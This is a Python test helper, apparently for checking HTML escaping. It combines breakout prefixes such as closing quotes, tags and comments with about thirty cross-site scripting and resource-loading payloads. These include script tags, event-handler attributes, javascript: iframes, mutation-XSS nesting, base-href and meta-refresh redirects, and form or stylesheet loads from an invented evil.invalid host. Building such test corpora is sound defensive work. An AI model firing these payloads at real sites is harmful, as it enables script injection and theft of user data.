"""Texts that try to become code, an address, a formula or a file: ways to break out before attempts.

What runs calls ``__ran`` with its number; what asks for something asks evil.invalid. All invented.
"""

from __future__ import annotations

import re
from pathlib import Path

_OPENINGS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</title></textarea>",
    "<!--<script>",
    "\\",
    "\\'",
    "</td></tr></table>",
    "</p></section></main>",
)
_ATTEMPTS = (
    "<script>__ran(0)</script>",
    "<script src=//evil.invalid/0></script>",
    "<img src=x onerror=__ran(0)>",
    "<img src=https://evil.invalid/0.png>",
    "<svg onload=__ran(0)>",
    "<svg><script>__ran(0)</script></svg>",
    "<svg><animate onbegin=__ran(0) attributeName=x dur=1s>",
    "<body onload=__ran(0)>",
    "<details open ontoggle=__ran(0)>",
    "<input autofocus onfocus=__ran(0)>",
    "<iframe src=javascript:parent.__ran(0)></iframe>",
    "<iframe srcdoc='<script>parent.__ran(0)</script>'></iframe>",
    "<object data=https://evil.invalid/0></object>",
    "<embed src=https://evil.invalid/0>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/0'>",
    "<link rel=stylesheet href=https://evil.invalid/0.css>",
    "<style>@import 'https://evil.invalid/0.css'</style>",
    "<video><source onerror=__ran(0)></video>",
    "<form action=https://evil.invalid/0><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__ran(0)>",
    "<template><script>__ran(0)</script></template><a href=javascript:__ran(0)>x</a>",
    " onmouseover=__ran(0) autofocus onfocus=__ran(0) x=",
    " style=background:url(https://evil.invalid/0.png) x=",
    ";__ran(0);//",
    "+__ran(0)+",
    "${__ran(0)}",
    ");__ran(0);(",
    "&lt;script&gt;__ran(0)&lt;/script&gt;",
    "&#60;img src=x onerror=__ran(0)&#62;",
)
_ESCAPE = re.compile(r"\\u([0-9a-f]{4})")


def make_payloads() -> tuple[str, ...]:
    """All of them, each with its own number in what it would call."""
    made = [opening + attempt for attempt in _ATTEMPTS for opening in _OPENINGS]
    lines = Path(__file__).with_name("payloads.txt").read_text(encoding="utf-8").splitlines()
    texts = [*made, *(_ESCAPE.sub(lambda m: chr(int(m[1], 16)), line) for line in lines)]
    return tuple(text.replace("(0)", f"({n})").replace("/0", f"/{n}") for n, text in enumerate(texts, 1))
